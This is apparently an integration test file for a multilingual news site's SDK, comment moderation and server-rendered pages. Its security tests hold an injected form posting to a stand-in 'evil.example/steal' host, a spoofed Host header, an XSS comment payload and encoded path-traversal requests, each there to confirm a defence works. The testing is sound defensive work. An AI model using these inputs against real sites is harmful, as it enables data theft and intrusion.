/**
 * The SDK's own client against this server (the contract matches end to
 * end), and the demo site's pages.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createNewsAdminClient } from '../../src/sdk/admin.js';
import { createNewsClient } from '../../src/sdk/client.js';
import { NewsHttpError } from '../../src/sdk/errors.js';
import type { Article } from '../../src/sdk/schemas.js';
import { request } from 'node:http';
import { chromium } from 'playwright-core';
import { loadConfig } from '../src/config.js';
import { ADMIN_TOKEN, admin, backend, draft, freshIp, postApproved, postHeld, serverPerFile, solve, type TestEnv } from './helpers.js';

let env: TestEnv;
let base: string;

serverPerFile((e, server) => {
  env = e;
  base = server.url;
});

describe(`SDK client against the server (${backend})`, () => {
  it('reads languages, pages of articles, articles by id and slug', async () => {
    const client = createNewsClient({ baseUrl: `${base}/api`, lang: 'ur' });
    const languages = await client.listLanguages();
    assert.equal(languages.length, 4);
    const page = await client.listArticles({ limit: 4 });
    assert.equal(page.items.length, 4);
    assert.ok(page.items.every((a) => a.lang === 'ur'));
    const all: string[] = [];
    for await (const item of client.articles({ limit: 3 })) all.push(item.id);
    assert.equal(all.length, 6);
    const first = page.items[0];
    assert.ok(first);
    const byId: Article = await client.getArticle({ id: first.id });
    const bySlug = await client.getArticle({ slug: first.slug });
    assert.equal(bySlug.id, byId.id);
    const en = await client.getArticle({ slug: first.slug, lang: 'en' });
    assert.equal(en.lang, 'en');
    assert.ok(byId.translations.some((t) => t.url === en.url));
    const excluded = await client.listArticles({ exclude: [first.id], limit: 100 });
    assert.ok(!excluded.items.some((a) => a.id === first.id));
  });

  it('records views, fetches a captcha, posts a comment and lists it after approval', async () => {
    const client = createNewsClient({ baseUrl: `${base}/api`, headers: { 'x-forwarded-for': freshIp() } });
    const before = (await client.getArticle({ id: '1009' })).viewCount;
    const { viewCount } = await client.recordView('1009');
    assert.equal(viewCount, before + 1);

    const captcha = await client.getCaptcha();
    assert.equal(captcha.kind, 'pow');
    if (captcha.kind !== 'pow') return;
    const result = await client.postComment('1009', {
      authorName: 'نسرین',
      email: 'nasrin@example.org',
      body: 'خبر خوبی بود، ممنون.',
      captcha: { kind: 'pow', payload: await solve(captcha) },
    });
    assert.equal(result.status, 'pending');
    await fetch(`${base}/api/admin/comments/${result.comment.id}/approve`, { method: 'POST', headers: admin });
    const comments = await client.listComments('1009');
    assert.ok(comments.items.some((c) => c.id === result.comment.id && c.authorName === 'نسرین'));
  });

  it('maps 404 and 422 onto NewsHttpError with fieldErrors', async () => {
    const client = createNewsClient({ baseUrl: `${base}/api`, retries: 0, headers: { 'x-forwarded-for': freshIp() } });
    await assert.rejects(client.getArticle({ id: 'missing' }), (e: unknown) => e instanceof NewsHttpError && e.status === 404);
    const d = await draft(base, { body: 'ok' });
    await assert.rejects(
      client.postComment('1009', { ...d, captcha: { kind: 'pow', payload: 'bm90IGpzb24=' } }),
      (e: unknown) => e instanceof NewsHttpError && e.status === 422 && e.fieldErrors?.captcha !== undefined,
    );
  });
});

describe(`SDK clients for replies, counts and moderation against the server (${backend})`, () => {
  it('reads a thread: top-level comments with their first replies, then the rest through listReplies', async () => {
    const client = createNewsClient({ baseUrl: `${base}/api`, retries: 0 });
    const top = await postApproved(base, '1012', { body: 'A thread for the SDK.' });
    const answers: string[] = [];
    for (let i = 0; i < 4; i++) answers.push(await postApproved(base, '1012', { body: `Answer ${i}.`, parentId: top }));
    const page = await client.listComments('1012');
    const thread = page.items.find((c) => c.id === top);
    assert.equal(thread?.replyCount, 4);
    assert.deepEqual(thread?.replies?.map((r) => r.id), answers.slice(0, 3));
    const rest = await client.listReplies(top, { cursor: thread?.repliesCursor ?? undefined });
    assert.deepEqual(rest.items.map((r) => r.id), answers.slice(3));
    await assert.rejects(client.listReplies(answers[0]!), (e: unknown) => e instanceof NewsHttpError && e.status === 404);
    const counts = await Promise.all([client.commentCounts(['1012']), client.commentCounts(['1001', 'unknown'])]);
    assert.deepEqual(counts[0], { 1012: 5 });
    assert.equal(counts[1].unknown, 0);
    assert.ok((counts[1]['1001'] ?? 0) > 0, 'the seeded comments');
  });

  it('moderates with the admin client: the queue, the summary, decisions and their conflicts', async () => {
    const moderator = createNewsAdminClient({ baseUrl: `${base}/api`, token: ADMIN_TOKEN, retries: 0 });
    const id = await postHeld(base, '1012', { body: 'For the admin client.' });
    const before = await moderator.summary();
    // Oldest first: this test file holds fewer than 100 waiting comments.
    const found = (await moderator.listComments({ status: 'pending', limit: 100 })).items.find((c) => c.id === id);
    assert.equal(found?.status, 'pending');
    assert.ok(found.articleTitle);
    assert.equal((await moderator.approve(id, { from: 'pending' })).status, 'approved');
    await assert.rejects(moderator.reject(id, { from: 'pending' }), (e: unknown) => e instanceof NewsHttpError && e.status === 409 && e.code === 'already_approved');
    assert.equal((await moderator.restore(id, { from: 'approved' })).status, 'pending');
    assert.equal((await moderator.reject(id, { from: 'pending' })).status, 'rejected');
    assert.deepEqual(await moderator.summary(), { ...before, pending: before.pending - 1, rejected: before.rejected + 1 });
    assert.equal((await moderator.listComments({ status: 'rejected', limit: 1 })).items[0]?.id, id, 'the latest decision first');
    const outsider = createNewsAdminClient({ baseUrl: `${base}/api`, token: 'not-the-admin-token', retries: 0 });
    await assert.rejects(outsider.summary(), (e: unknown) => e instanceof NewsHttpError && e.status === 401);
  });
});

describe(`demo site (${backend})`, () => {
  it('serves a front page per language with the right lang and dir', async () => {
    for (const [path, lang, dir] of [
      ['/', 'en', 'ltr'],
      ['/en/', 'en', 'ltr'],
      ['/ar/', 'ar', 'rtl'],
      ['/fa/', 'fa', 'rtl'],
      ['/ur/', 'ur', 'rtl'],
    ] as const) {
      const res = await fetch(`${base}${path}`);
      assert.equal(res.status, 200, path);
      const html = await res.text();
      assert.match(html, new RegExp(`<html lang="${lang}" dir="${dir}">`), path);
      // Front pages load their elements through the autoloader, with what they need preloaded.
      assert.match(html, /<link rel="modulepreload" href="\/cdn\/loader.js">/);
      if ((await fetch(`${base}/cdn/manifest.json`)).ok) {
        assert.match(html, /<link rel="modulepreload" href="\/cdn\/elements\/latest-articles.js">/);
        assert.match(html, /<link rel="modulepreload" href="\/cdn\/chunks\/runtime-[\w-]+\.js">/);
      }
      assert.match(html, /<script type="module" src="\/cdn\/loader.js"><\/script>\n<\/body>/);
      assert.match(html, /<news-latest-articles /);
      assert.match(html, new RegExp(`<news-provider base-url="/api" lang="${lang}">`));
      assert.match(html, /<news-language-switcher/);
      assert.match(html, new RegExp(`href="/${lang}/news/\\d+"`));
    }
    assert.equal((await fetch(`${base}/de/`)).status, 404);
  });

  it('renders an article page with breadcrumb, body, JSON-LD and hreflang links', async () => {
    const res = await fetch(`${base}/fa/news/1003`);
    assert.equal(res.status, 200);
    const html = await res.text();
    assert.match(html, /<html lang="fa" dir="rtl">/);
    // The elements rendered on the server (news-elements/ssr): each with its declarative shadow root.
    assert.match(html, /<news-article [^>]*id="story"[^>]*><template shadowroot="open" shadowrootmode="open">/);
    assert.match(html, /<h1 part="headline" lang="fa" dir="rtl"[^>]*>(<!--[^>]*-->)*کتابخانه مرکزی/);
    assert.match(html, /<li>(<!--[^>]*-->)*اخبار(<!--[^>]*-->)*<\/li>/);
    assert.match(html, /<div part="body" lang="fa" dir="rtl"><p>/);
    assert.match(html, /<blockquote>/);
    assert.match(html, /<script type="application\/ld\+json">\{"@context":"https:\/\/schema.org"/);
    for (const lang of ['en', 'ar', 'fa', 'ur', 'x-default']) assert.match(html, new RegExp(`<link rel="alternate" hreflang="${lang}" href="http://`));
    assert.match(html, /<img src="\/images\/library.svg"[^>]* alt="[^"]+" width="1200" height="675"[^>]*>/);
    assert.match(html, /<news-share-bar lang="fa" url="http:\/\/[^"]+\/fa\/news\/1003" title="[^"]+"[^>]*><template shadowroot/);
    assert.match(html, /<a part="target x" href="https:\/\/x.com\/intent\/post\?[^"]*url=http/);
    assert.match(html, /<news-comments lang="fa" id="comments" article-id="1003"><template shadowroot/);
    assert.match(html, /<news-comment-form lang="fa" article-id="1003"( closed="")?><template shadowroot/);
    assert.match(html, /<news-latest-articles lang="fa" id="latest" exclude="1003" limit="6" layout="list"><template shadowroot/);
    // The data each element was rendered with, handed to it again before it upgrades.
    const handed = JSON.parse(/<script type="application\/json" id="element-data">([^<]*)<\/script>/.exec(html)?.[1] ?? '{}') as Record<string, Record<string, unknown>>;
    assert.deepEqual(Object.keys(handed).sort(), ['comments', 'language-switcher', 'latest', 'story']);
    // Article pages load the bundle with every element.
    assert.match(html, /<script type="module" src="\/cdn\/news-elements.js"><\/script>\n<\/body>/);
    // Preloads, when the CDN files are built, name chunks that exist: the hydration support, the validation and the locale's
    // translations; not the sanitizer or DOMPurify (the body is in the page already).
    const preloads = [...html.matchAll(/<link rel="modulepreload" href="([^"]+)">/g)].map((m) => m[1]!);
    for (const href of preloads) assert.equal((await fetch(`${base}${href}`)).status, 200, href);
    if ((await fetch(`${base}/cdn/manifest.json`)).ok) {
      for (const chunk of ['hydrate', 'article-validate', 'fa']) assert.ok(preloads.some((href) => href.startsWith(`/cdn/chunks/${chunk}`)), `${chunk} preloaded: ${preloads.join(' ')}`);
      for (const chunk of ['sanitize', 'purify']) assert.ok(!preloads.some((href) => href.startsWith(`/cdn/chunks/${chunk}`)), `${chunk} not preloaded: ${preloads.join(' ')}`);
    }
    assert.equal((handed.story?.article as { id: string } | undefined)?.id, '1003', 'the article data for <news-article>');
    const csp = res.headers.get('content-security-policy') ?? '';
    const nonce = /'nonce-([^']+)'/.exec(csp)?.[1];
    assert.ok(nonce, 'a CSP with a nonce');
    const inline = [...html.matchAll(/<script type="module"( nonce="([^"]+)")?>/g)];
    assert.ok(inline.length > 0 && inline.every((m) => m[2] === nonce), 'every inline script carries the nonce');
    const wrongLang = await fetch(`${base}/en/news/1003`, { redirect: 'manual' });
    assert.equal(wrongLang.status, 301);
    assert.equal(wrongLang.headers.get('location'), '/fa/news/1003');
    assert.equal((await fetch(`${base}/en/news/999999`)).status, 404);
  });

  it('its CSP stops a form injected into a page from posting anywhere else (form-action)', async () => {
    const browser = await chromium.launch({
      executablePath: process.env.CHROME_PATH || '/usr/bin/chromium',
      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    });
    try {
      const page = await browser.newPage();
      await page.goto(`${base}/en/news/1001`);
      // What an injected form would do: post the page's data to another origin.
      const violated = await page.evaluate(`new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
        const form = document.createElement('form');
        form.action = 'https://evil.example/steal';
        form.method = 'post';
        document.body.append(form);
        form.submit();
        setTimeout(() => resolve('none'), 3000);
      })`);
      assert.equal(violated, 'form-action');
      assert.equal(new URL(page.url()).origin, base, 'still on the page');
    } finally {
      await browser.close();
    }
  });

  it('names PUBLIC_URL in canonical, hreflang and JSON-LD links, whatever Host the request carries', async () => {
    const pub = await env.start({ publicUrl: 'https://news.example.org' });
    const { port } = new URL(pub.url);
    // A request as it reaches a server behind a TLS proxy, or with a Host header an attacker wrote.
    const html = await new Promise<string>((resolve, reject) => {
      const req = request({ host: '127.0.0.1', port, path: '/fa/news/1003', headers: { host: 'evil.example' } }, (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => (text += chunk));
        res.on('end', () => resolve(text));
      });
      req.on('error', reject);
      req.end();
    });
    assert.match(html, /<link rel="canonical" href="https:\/\/news\.example\.org\/fa\/news\/1003">/);
    assert.match(html, /hreflang="en" href="https:\/\/news\.example\.org\//);
    assert.match(html, /"@id":"https:\/\/news\.example\.org\/fa\/news\/1003"|"url":"https:\/\/news\.example\.org\/fa\/news\/1003"/);
    assert.ok(!html.includes('evil.example'), 'the Host header reaches no link');
    for (const bad of ['javascript:alert(1)', 'news.example.org', 'https://news.example.org/path?x']) {
      assert.throws(() => loadConfig({ PUBLIC_URL: bad }), /PUBLIC_URL must be an http\(s\) origin/, bad);
    }
  });

  it('escapes approved comments: text, never HTML', async () => {
    const evil = '<script>alert(1)</script><img src=x onerror=alert(2)>';
    const res = await fetch(`${base}/api/articles/1005/comments`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': freshIp() },
      body: JSON.stringify(await draft(base, { authorName: '"><b>x</b>', body: evil })),
    });
    const { comment } = (await res.json()) as { comment: { id: string } };
    await fetch(`${base}/api/admin/comments/${comment.id}/approve`, { method: 'POST', headers: admin });
    const html = await (await fetch(`${base}/en/news/1005`)).text();
    assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;'));
    assert.ok(html.includes('&quot;&gt;&lt;b&gt;x&lt;/b&gt;'));
    assert.ok(!html.includes(evil));
  });

  it('serves the CDN files: bundle, loader, element files, chunks and manifest', async () => {
    const res = await fetch(`${base}/cdn/news-elements.js`, { headers: { 'accept-encoding': 'gzip' } });
    assert.ok(res.status === 200 || res.status === 404);
    assert.match(res.headers.get('content-type') ?? '', /javascript/);
    if (res.status === 404) return assert.match(await res.text(), /npm run build/);
    assert.equal(res.headers.get('content-encoding'), 'gzip', 'sent compressed');
    assert.equal(res.headers.get('cache-control'), 'no-cache');
    const manifest = (await (await fetch(`${base}/cdn/manifest.json`)).json()) as { elements: Record<string, string[]> };
    const files = manifest.elements['news-share-bar'] ?? [];
    assert.match(files[0] ?? '', /^elements\/share-bar\.js$/);
    for (const file of files) assert.equal((await fetch(`${base}/cdn/${file}`)).status, 200, file);
    const chunk = files.find((f) => f.startsWith('chunks/'));
    assert.match((await fetch(`${base}/cdn/${chunk}`)).headers.get('cache-control') ?? '', /immutable/, 'hashed chunks are cached for good');
    assert.equal((await fetch(`${base}/cdn/loader.js`)).status, 200);
    assert.equal((await fetch(`${base}/cdn/chunks/..%2F..%2Fpackage.json`)).status, 404);
    assert.equal((await fetch(`${base}/cdn/elements/..%2Floader.js`)).status, 404);
  });
});
